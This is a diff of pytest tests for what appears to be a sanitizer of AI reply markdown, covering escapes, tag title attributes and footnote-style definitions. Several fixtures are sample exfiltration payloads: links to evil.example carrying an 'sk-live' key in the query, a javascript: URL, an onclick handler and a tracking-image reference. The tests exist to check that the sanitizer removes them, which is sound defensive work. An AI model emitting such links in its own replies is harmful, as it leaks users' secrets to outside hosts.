@@ -69,7 +69,8 @@ NEAR_MISSES = (
     "&#60;", "<br/>", "\n<kbd>", "- <b>", "\n\n<div>",
     "[r]: https://docs.python.org/3/\n\n", "words\n[p]: https://e.example/c/p\n\n", "[R]",
     "[ r ]", "[x][r]", "[r][]", "[x] [P]", "[p", "> [x\n> r]", "[\u017f]", "[&#114;]", "[rr]",
-    "[x][rr]", "[x][r[",
+    "[x][rr]", "[x][r[", "\\", "\\*", "\\[", "\\]", "\\(", "\\)", "\\\\", "\\<", "\\`", "\\&",
+    "\\_", "\\|", "\\\n", '<sup title="x">', '<sup title="a]">', '<b title="">', '<b title=x>',
 )  # fmt: skip
 near_misses = st.lists(st.sampled_from(NEAR_MISSES), max_size=24).map("".join)
 mixed = st.lists(st.one_of(near_misses, soup), min_size=1, max_size=3).map("".join)
@@ -218,7 +219,7 @@ ANGLES_TO_THE_PASS = (
     "A <a@b.example> mail autolink",
     "A <javascript:alert(1)> script autolink",
     "A <!-- comment --> here",
-    "Text <b>x</b> and [a link](https://docs.python.org/3/)",
+    "Text <b>x</b> and [a link](<https://docs.python.org/3/>)",
     "End </b>tag then &amp; an entity",
     "A <bx> tag that is not b",
 )
@@ -234,6 +235,157 @@ def test_inline_tags_and_autolinks_are_certified(text: str) -> None:
 def test_other_angles_are_left_to_the_pass(text: str) -> None:
     assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is None
     same(text)
+
+
+# Escapes the fast path reads past, and those it leaves to the pass.
+ESCAPES_CERTIFIED = (
+    r"Use `*args` and not \*args\* here, with snake\_case\_names.",
+    r"The path is C:\\Users\\dana\\project and it costs \$5 a month.",
+    r"A literal \[bracket\] and a \# hash, 1\. not a list item.",
+    "| a | b |\n|---|---|\n| the pipe \\| in a cell | [docs](https://docs.python.org/3/) |",
+    r"See [the docs](https://docs.python.org/3/library/csv.html) for \*args\*.",
+)
+ESCAPES_TO_THE_PASS = (
+    r"An escape in a [destination](https://docs.python.org/3/\)x) here.",
+    r"A \<tag\> written out.",
+    r"An escaped \`backtick` here.",
+    r"An escaped \&amp; entity.",
+    "Ends with a backslash \\",
+    r"A [nested](https://docs.python.org/3/(x)) destination and \*stars\*.",
+    r"A [titled](https://docs.python.org/3/ \"t\") destination and \*stars\*.",
+)
+
+
+@pytest.mark.parametrize("text", ESCAPES_CERTIFIED)
+def test_escapes_outside_what_the_fast_path_reads_are_certified(text: str) -> None:
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is not None
+    assert same(text).text == text
+
+
+@pytest.mark.parametrize("text", ESCAPES_TO_THE_PASS)
+def test_escapes_in_what_the_fast_path_reads_are_left_to_the_pass(text: str) -> None:
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is None
+    same(text)
+
+
+def test_an_escaped_paren_in_a_destination_is_read_as_markdown_it_reads_it() -> None:
+    # markdown-it's href runs past the escaped `)`, to the data: the unit is left to
+    # the pass (`ESCAPES_TO_THE_PASS` shows the refusal; the bare URL reading, which
+    # runs past it too, would also refuse this one).
+    reply = r"See [x](https://evil.example/a\)?k=sk-live-9f8e7d6c5b4a3f2e1d0c) here."
+    result = same(reply, conversation=CONVERSATION)
+    assert result.findings
+    assert "sk-live" not in result.text
+
+
+def test_escapes_under_math_in_prose_are_left_to_the_pass() -> None:
+    math = Sanitizer(Policy(rendered_fences=("$$",)))
+    text = ESCAPES_CERTIFIED[0]
+    assert fast.certified(text, Carry(), math.units.for_reply(None).rules.judge) is None
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is not None
+
+
+def test_a_destination_beside_a_tag_is_certified_when_read_in_one_match() -> None:
+    judge = ON.units.for_reply(None).rules.judge
+    text = "Press <kbd>K</kbd>, then see [the docs](https://docs.python.org/3/)."
+    assert fast.certified(text, Carry(), judge) is not None
+    assert same(text).text == text
+    for other in (
+        "Press <kbd>K</kbd>, then see [the docs](<https://docs.python.org/3/>).",
+        "Press <kbd>K</kbd>, then see [the docs](https://docs.python.org/3/(x)).",
+        "Press <kbd>K</kbd>, then see [the docs](https://docs.python.org/3/<b>).",
+    ):
+        assert fast.certified(other, Carry(), judge) is None
+        same(other)
+
+
+def test_a_secret_in_an_angle_destination_beside_a_tag_is_removed() -> None:
+    reply = "Press <kbd>K</kbd> and [x](<https://evil.example/?k=sk-live-9f8e7d6c5b4a3f2e1d0c>)."
+    result = same(reply, conversation=CONVERSATION)
+    assert result.findings
+    assert "sk-live" not in result.text
+
+
+TITLES_CERTIFIED = (
+    'A note<sup title="Smith, 2021">2</sup> and <abbr title="HyperText Markup">HTML</abbr>.',
+    'Press <kbd title="the key">K</kbd> and see [docs](https://docs.python.org/3/).',
+)
+TITLES_TO_THE_PASS = (
+    '<sup title="x">2</sup> at a line start',
+    "A <sup title='single'>2</sup> quoted title",
+    'A <sup title="a>b">2</sup> with a >',
+    'A <sup title="[x">2</sup> with a bracket',
+    'A <sup title="a&amp;b">2</sup> with an entity',
+    'A <sup title="a~b">2</sup> with a tilde',
+    'A <sup style="color:red">2</sup> style',
+    'A <sup id="x">2</sup> id',
+    'A <sup title="x" onclick="alert(1)">2</sup> handler',
+    "A <sup title=x>2</sup> unquoted title",
+)
+
+
+@pytest.mark.parametrize("text", TITLES_CERTIFIED)
+def test_inline_tags_with_a_plain_title_are_certified(text: str) -> None:
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is not None
+    assert same(text).text == text
+
+
+@pytest.mark.parametrize("text", TITLES_TO_THE_PASS)
+def test_other_attributes_are_left_to_the_pass(text: str) -> None:
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is None
+    same(text)
+
+
+def test_an_id_attribute_is_removed_by_the_pass() -> None:
+    # Certified like a title, the clobbering id would stay.
+    text = 'A <sup id="x">2</sup> id'
+    assert same(text).text != text
+
+
+# `]:` where no renderer reads a definition (footnotes written as prose), and where
+# one may.
+DEFINES_NOTHING = (
+    "[^1]: Smith, J. (2010). *A title*. https://docs.python.org/3/library/\n"
+    "[^2]: Lee et al., 2011: [A title](https://docs.python.org/3/library/csv.html).",
+    "[^1]: a ]: b c",
+)
+MAY_DEFINE = (
+    "[r]: https://docs.python.org/3/library/",
+    "[^1]: Foo (2010)",
+    '[^1]: Foo "a title"',
+    "[^1]: Foo 'a title'",
+    '[^1]: Foo"bar" baz"',
+    "[^1]:\nhttps://docs.python.org/3/library/ next line",
+    "[^1]: javascript:void more words",
+    "[^1]: Foo\u00a0bar baz",
+    "[^1]: Foo\u00a0(bar)",
+    "[^1]: [r]: https://docs.python.org/3/library/",
+    "Text [^1]: Foo bar\n[r]: https://docs.python.org/3/library/",
+)
+
+
+@pytest.mark.parametrize("text", DEFINES_NOTHING)
+def test_a_colon_after_a_label_that_defines_nothing_is_certified(text: str) -> None:
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is not None
+    assert same(text).text == text
+
+
+@pytest.mark.parametrize("text", MAY_DEFINE)
+def test_what_may_be_a_definition_is_left_to_the_pass(text: str) -> None:
+    assert fast.certified(text, Carry(), ON.units.for_reply(None).rules.judge) is None
+    same(text)
+
+
+def test_a_script_url_after_a_footnote_label_is_escaped_by_the_pass() -> None:
+    # No renderer defines `^1` here, but the second line escapes what a generous
+    # one could read as a script destination: certified, it would stay.
+    text = "A [x] and\n[^1]: javascript:void more words"
+    assert same(text).text != text
+
+
+def test_a_footnote_after_an_image_label_is_left_to_the_pass() -> None:
+    # An image used `^1` before: the second line judges what `[^1]:` could give it.
+    assert not _certified_after_definitions("[^1]: evil.example/px.png and more", "![x][^1]\n\n")
 
 
 def test_an_autolink_carrying_data_is_judged_on_the_fast_path() -> None:
